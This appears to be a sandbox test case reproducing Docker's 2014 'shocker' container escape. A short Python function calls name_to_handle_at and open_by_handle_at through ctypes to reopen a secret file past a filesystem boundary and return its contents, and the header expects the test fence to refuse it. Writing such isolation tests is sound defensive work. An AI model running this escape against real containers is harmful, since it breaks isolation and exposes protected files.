# Open a file by its number, past every path.
# source: open_by_handle_at(2): Docker's "shocker" exploit of 2014
# expect: refused
# without the fence: unsafe
# ruff: noqa

import ctypes, os

def attack(world):
    library = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132), 136)
    mount = ctypes.c_int()
    path = world["secret"].encode()
    if library.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0:
        file = library.open_by_handle_at(os.open(world["outside"], os.O_RDONLY), handle, 0)
        return "ESCAPED " + os.read(file, 100).decode()
